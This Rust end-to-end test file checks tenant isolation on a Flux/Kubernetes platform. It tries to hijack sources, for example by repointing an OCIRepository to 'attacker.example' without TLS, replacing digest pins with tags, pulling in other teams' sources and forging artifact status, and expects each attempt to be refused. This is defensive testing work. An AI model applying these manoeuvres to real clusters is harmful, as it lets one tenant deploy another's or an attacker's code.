//! Step 6a, third table: the Flux sources that keep each tenant to its own part of the platform,
//! as the provider's developer and its Flux account: its own OCIRepository pointed at another
//! service's artifact, another pin or a registry of its own; its team's artifact re-pinned or
//! deleted; a tenant Kustomization
//! on its team's or another team's source in flux-system; its team's source patched or deleted;
//! and a source of its own, on another service's artifact or checking out another team's
//! directory of the platform repository.

use serde_json::{Value, json};

use super::{Attack, Who};
use crate::e2e::evasions::{self, RBAC};
use crate::e2e::flux::FLUX_NAMESPACE;
use crate::e2e::tree::{Tree, str_at};

/// The sources the attacks aim at, from the tree.
pub(super) struct Sources {
    /// Another service's OCIRepository.
    other: Value,
    /// The bootstrap's git source in flux-system (the platform repository).
    bootstrap: Value,
    /// The provider's team and another team, from the sources' team labels.
    team: String,
    other_team: String,
    /// The environment, from the directory the provider's artifact holds
    /// (`flux/apps/<service>/<env>`).
    env: String,
}

impl Sources {
    pub(super) fn of(tree: &Tree, ns: &str) -> anyhow::Result<Sources> {
        let artifacts = tree.of_kind("OCIRepository");
        let named = |r: &&Value, namespace: &str, name: &str| {
            str_at(r, "/metadata/namespace") == namespace && str_at(r, "/metadata/name") == name
        };
        let own = artifacts
            .iter()
            .find(|r| named(r, ns, ns))
            .ok_or_else(|| anyhow::anyhow!("the tree has no OCIRepository {ns}/{ns}"))?;
        let other = artifacts
            .iter()
            .find(|r| str_at(r, "/metadata/namespace") != ns)
            .map(|r| (*r).clone())
            .ok_or_else(|| anyhow::anyhow!("the tree has no OCIRepository but {ns}'s"))?;
        let team = str_at(own, "/metadata/labels/billing-platform~1team").to_owned();
        let bootstrap = tree
            .of_kind("GitRepository")
            .into_iter()
            .find(|r| named(r, FLUX_NAMESPACE, FLUX_NAMESPACE))
            .cloned()
            .ok_or_else(|| {
                anyhow::anyhow!("the tree has no source {FLUX_NAMESPACE}/{FLUX_NAMESPACE}")
            })?;
        // The teams' tenants artifacts in flux-system, `tenants-<team>`.
        let other_team = artifacts
            .iter()
            .filter(|r| str_at(r, "/metadata/namespace") == FLUX_NAMESPACE)
            .filter_map(|r| str_at(r, "/metadata/name").strip_prefix("tenants-"))
            .find(|t| *t != team)
            .map(str::to_owned)
            .ok_or_else(|| anyhow::anyhow!("the tree has no team artifact but {team}'s"))?;
        let env = crate::e2e::tree::artifact_directory(own)
            .and_then(|dir| dir.rsplit('/').next())
            .unwrap_or("")
            .to_owned();
        if team.is_empty() || env.is_empty() {
            anyhow::bail!("the OCIRepository {ns}/{ns} names no team label or artifact directory");
        }
        Ok(Sources {
            other,
            bootstrap,
            team,
            other_team,
            env,
        })
    }
}

pub(super) fn attacks(developer: &Who, tenant: &Who, ns: &str, sources: &Sources) -> Vec<Attack> {
    let Sources {
        other,
        bootstrap,
        team,
        other_team,
        env,
    } = sources;
    // Neither role grants any Flux kind: RBAC must be what refuses (an accidental grant would
    // then show here instead of hiding behind the admission policy; `editor_attacks` proves
    // the policy behind it).
    let run = |who: &Who, what: &str, args: &[&str]| evasions::dry(who, what, args, RBAC);
    let apply = |who: &Who, what: &str, object: Value| evasions::apply(who, what, &object, RBAC);
    let patch = |who: &Who, what: &str, object: &str, namespace: &str, change: Value| {
        evasions::merge_patch(who, what, object, namespace, &change, RBAC)
    };
    let own_source = format!("ocirepository/{ns}");
    let other_url = str_at(other, "/spec/url");
    let other_pin = str_at(other, "/spec/ref/digest");
    let team_source = format!("ocirepository/tenants-{team}");
    let other_tenants = format!("flux/tenants/{env}/{other_team}");
    let mut attacks = Vec::new();
    for who in [developer, tenant] {
        attacks.extend([
            // 1. Its own source pointed elsewhere: another service's artifact, another pin (or a
            // tag, which a push could move), a registry of its own.
            patch(
                who,
                &format!("points its OCIRepository at {other_url}@{other_pin}"),
                &own_source,
                ns,
                json!({"spec": {"url": other_url, "ref": {"digest": other_pin}}}),
            ),
            patch(
                who,
                "makes its OCIRepository follow a tag instead of the pin",
                &own_source,
                ns,
                json!({"spec": {"ref": {"digest": null, "tag": "latest"}}}),
            ),
            patch(
                who,
                "points its OCIRepository at a registry of its own, without TLS",
                &own_source,
                ns,
                json!({"spec": {"url": "oci://attacker.example/manifests", "insecure": true}}),
            ),
            // 2. A Kustomization of its namespace, with the account the policy asks for, on a
            // source in flux-system: another team's, or the bootstrap's (namespace.rs' one has no
            // account, so the account rule may be what refuses it).
            apply(
                who,
                &format!(
                    "creates a Kustomization (serviceAccountName flux-reconciler) on {FLUX_NAMESPACE}/tenants-{other_team}"
                ),
                tenant_kustomization(
                    ns,
                    ("OCIRepository", &format!("tenants-{other_team}")),
                    "",
                ),
            ),
            apply(
                who,
                &format!(
                    "creates a Kustomization (serviceAccountName flux-reconciler) on {FLUX_NAMESPACE}/{FLUX_NAMESPACE}"
                ),
                tenant_kustomization(
                    ns,
                    ("GitRepository", FLUX_NAMESPACE),
                    &format!("flux/clusters/{env}"),
                ),
            ),
            // 3. Its team's artifact in flux-system: re-pinned, deleted.
            patch(
                who,
                &format!("re-pins {FLUX_NAMESPACE}/tenants-{team} to {other_pin}"),
                &team_source,
                FLUX_NAMESPACE,
                json!({"spec": {"ref": {"digest": other_pin}}}),
            ),
            run(
                who,
                &format!("deletes {FLUX_NAMESPACE}/tenants-{team}"),
                &["delete", &team_source, "-n", FLUX_NAMESPACE],
            ),
            // 4. A source of its own: on another service's artifact, or on the platform
            // repository checking out another team's tenants.
            apply(
                who,
                &format!("creates an OCIRepository on {other_url}"),
                json!({"apiVersion": "source.toolkit.fluxcd.io/v1", "kind": "OCIRepository",
                "metadata": {"name": "e2e-attack", "namespace": ns}, "spec": {"interval": "1m",
                "url": other_url, "ref": other["spec"]["ref"].clone()}}),
            ),
            apply(
                who,
                &format!("creates a GitRepository checking out {other_tenants}"),
                json!({"apiVersion": "source.toolkit.fluxcd.io/v1", "kind": "GitRepository",
                "metadata": {"name": "e2e-attack", "namespace": ns}, "spec": {"interval": "1m",
                "url": str_at(bootstrap, "/spec/url"), "ref": bootstrap["spec"]["ref"].clone(),
                "sparseCheckout": [other_tenants]}}),
            ),
        ]);
    }
    attacks
}

/// A user RBAC lets write every Flux source and Kustomization in every namespace, as a too-broad
/// role would: against it, what keeps a service namespace's sources the platform's is the
/// admission policy `tenant-limits-protected` alone, on the real API server (the resources it
/// matches are the kinds' plural names, which only a live request checks).
pub(super) const EDITOR: &str = "e2e-flux-editor";

/// The ClusterRole and ClusterRoleBinding that make [`EDITOR`] such a user (scaffolding the run
/// applies before the attacks and deletes after them).
pub(super) fn editor_rbac() -> Value {
    let verbs = json!([
        "get", "list", "watch", "create", "update", "patch", "delete"
    ]);
    json!({"apiVersion": "v1", "kind": "List", "items": [
        {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRole",
         "metadata": {"name": EDITOR},
         "rules": [
            {"apiGroups": ["source.toolkit.fluxcd.io"], "resources": ["gitrepositories",
             "ocirepositories", "ocirepositories/status", "buckets", "helmrepositories",
             "helmcharts", "externalartifacts"],
             "verbs": verbs},
            {"apiGroups": ["kustomize.toolkit.fluxcd.io"], "resources": ["kustomizations",
             "kustomizations/status"],
             "verbs": verbs}]},
        {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding",
         "metadata": {"name": EDITOR},
         "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": EDITOR},
         "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": EDITOR}]},
    ]})
}

/// What [`EDITOR`] tries in the service namespace `ns`: each must be refused by
/// `tenant-limits-protected`, which names the kind in its message.
pub(super) fn editor_attacks(ns: &str, sources: &Sources) -> Vec<Attack> {
    const POLICY: &[&str] = &["platform-tenant-limits-protected"];
    let editor = Who {
        label: format!("editor ({EDITOR}, RBAC on every Flux source)"),
        user: EDITOR.to_owned(),
        groups: vec!["system:authenticated".to_owned()],
    };
    let other_url = str_at(&sources.other, "/spec/url");
    let other_pin = str_at(&sources.other, "/spec/ref/digest");
    let meta = json!({"name": "e2e-attack", "namespace": ns});
    let mut attacks = vec![
        evasions::merge_patch(
            &editor,
            &format!("points {ns}'s OCIRepository at {other_url}@{other_pin}"),
            &format!("ocirepository/{ns}"),
            ns,
            &json!({"spec": {"url": other_url, "ref": {"digest": other_pin}}}),
            POLICY,
        ),
        evasions::dry(
            &editor,
            &format!("deletes {ns}'s Kustomization"),
            &["delete", &format!("kustomization/{ns}"), "-n", ns],
            POLICY,
        ),
        // kustomize-controller downloads and applies the artifact a source's status names,
        // checking it against the digest that status gives: a forged status is a forged source.
        evasions::dry(
            &editor,
            &format!("forges {ns}'s OCIRepository status: its artifact served from elsewhere"),
            &[
                "patch",
                &format!("ocirepository/{ns}"),
                "-n",
                ns,
                "--subresource=status",
                "--type=merge",
                "-p",
                &json!({"status": {"artifact": {
                    "url": "http://127.0.0.1:9/forged.tar.gz",
                    "digest": other_pin,
                    "revision": format!("latest@{other_pin}")}}})
                .to_string(),
            ],
            POLICY,
        ),
        evasions::dry(
            &editor,
            &format!("forges {ns}'s Kustomization status"),
            &[
                "patch",
                &format!("kustomization/{ns}"),
                "-n",
                ns,
                "--subresource=status",
                "--type=merge",
                "-p",
                r#"{"status":{"lastAppliedRevision":"forged"}}"#,
            ],
            POLICY,
        ),
    ];
    let sources = [
        json!({"kind": "OCIRepository", "spec": {"interval": "1m", "url": other_url,
            "ref": {"digest": other_pin}}}),
        json!({"kind": "GitRepository", "spec": {"interval": "1m",
            "url": str_at(&sources.bootstrap, "/spec/url"), "ref": {"branch": "main"}}}),
        json!({"kind": "Bucket", "spec": {"interval": "1m", "bucketName": "anything",
            "endpoint": "s3.example.com"}}),
        json!({"kind": "HelmRepository", "spec": {"interval": "1m",
            "url": "https://charts.example.com"}}),
        json!({"kind": "HelmChart", "spec": {"interval": "1m", "chart": "anything",
            "sourceRef": {"kind": "HelmRepository", "name": "e2e-attack"}}}),
        json!({"kind": "ExternalArtifact", "spec": {"sourceRef": {"apiVersion": "example.com/v1",
            "kind": "Anything", "name": "x"}}}),
    ];
    for mut source in sources {
        let kind = source["kind"].as_str().unwrap_or("").to_owned();
        source["apiVersion"] = json!("source.toolkit.fluxcd.io/v1");
        source["metadata"] = meta.clone();
        attacks.push(evasions::apply(
            &editor,
            &format!("creates {kind} e2e-attack in {ns}"),
            &source,
            POLICY,
        ));
    }
    attacks
}

/// A Kustomization in `ns` as the policy wants it (its Flux account, into `ns`) but for the source:
/// `flux-system/<source>` (`(kind, name)`).
fn tenant_kustomization(ns: &str, source: (&str, &str), path: &str) -> Value {
    json!({"apiVersion": "kustomize.toolkit.fluxcd.io/v1", "kind": "Kustomization",
    "metadata": {"name": "e2e-attack", "namespace": ns}, "spec": {"interval": "10m", "prune": false,
    "path": format!("./{path}"), "serviceAccountName": infra::render::TENANT_RECONCILER,
    "targetNamespace": ns, "sourceRef": {"kind": source.0, "name": source.1,
    "namespace": FLUX_NAMESPACE}}})
}
